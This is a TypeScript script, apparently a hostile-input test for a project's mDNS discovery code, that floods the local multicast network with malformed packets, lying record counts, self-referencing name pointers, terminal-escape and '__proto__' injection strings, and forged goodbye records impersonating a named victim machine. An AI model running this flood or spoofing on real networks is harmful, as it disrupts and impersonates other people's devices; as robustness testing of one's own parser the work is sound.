// Floods the network with mDNS packets that nobody honest sends. Argument: the fingerprint of a machine to forge goodbyes of.
import { randomBytes } from 'node:crypto';
import dgram from 'node:dgram';
import makeMulticastDns from 'multicast-dns';
import { hostOf, instanceOf, serviceDomain } from '../../src/engine/pod/net/discovery/announcement.js';

const victim = process.argv[2] ?? '';
const mdns = makeMulticastDns();
const socket = dgram.createSocket('udp4');
let made = 0;

function machine(id: string, txt: string[], addresses: string[], ttl = 120): void {
  const instance = `${instanceOf(id)}.${serviceDomain}`;
  mdns.respond([
    { name: serviceDomain, type: 'PTR', ttl, data: instance },
    { name: instance, type: 'SRV', ttl, data: { port: 4_444, target: hostOf(id) } },
    { name: instance, type: 'TXT', ttl, data: txt },
    ...addresses.map((data) => ({ name: hostOf(id), type: 'A' as const, ttl, data })),
  ]);
}

function forgedMachine(): void {
  const id = randomBytes(32).toString('hex');
  machine(id, [`id=${id}`, `n=forged ${++made} \u001b[2J`, 'v=1'], ['10.77.0.3', '127.0.0.1', '224.0.0.1', '0.0.0.0']);
}

function raw(bytes: Uint8Array): void {
  socket.send(bytes, 5_353, '224.0.0.251');
}

/** A response whose header counts as many records as it can, and whose only name points at itself. */
function lyingHeader(): Buffer {
  const packet = Buffer.alloc(64);
  packet.writeUInt16BE(0x8400, 2);
  for (let at = 4; at < 12; at += 2) packet.writeUInt16BE(0xffff, at);
  packet.writeUInt16BE(0xc00c, 12);
  return packet;
}

function flood(): void {
  forgedMachine();
  raw(randomBytes(1 + Math.floor(Math.random() * 1_400)));
  raw(Buffer.concat([Buffer.from([0, 0, 0x84, 0, 0, 0, 0, 9, 0, 0, 0, 9]), Buffer.from('\u0008_seekpod'), randomBytes(600)]));
  raw(lyingHeader());
  raw(Buffer.from([0, 0, 0x84, 0, 0, 1, 0, 0, 0, 0, 0, 0, 0xc0, 0x0c, 0, 12, 0, 1]));
  machine(victim, [`id=${victim}`, 'n=', 'v=one'], ['10.77.0.3']);
  machine(victim, ['id=not a fingerprint', 'n=forged', 'v=1'], ['10.77.0.3']);
  machine(victim, [`id=${'0'.repeat(64)}`, 'n=forged', 'v=1', '__proto__=x'], ['10.77.0.3']);
  mdns.respond([{ name: serviceDomain, type: 'PTR', ttl: 0, data: `${instanceOf(victim)}.${serviceDomain}` }]);
  for (const length of [8, 200]) mdns.query(Array.from({ length }, () => ({ name: serviceDomain, type: 'PTR' as const })));
  setTimeout(flood, 2);
}

socket.bind(() => {
  mdns.on('ready', flood);
});
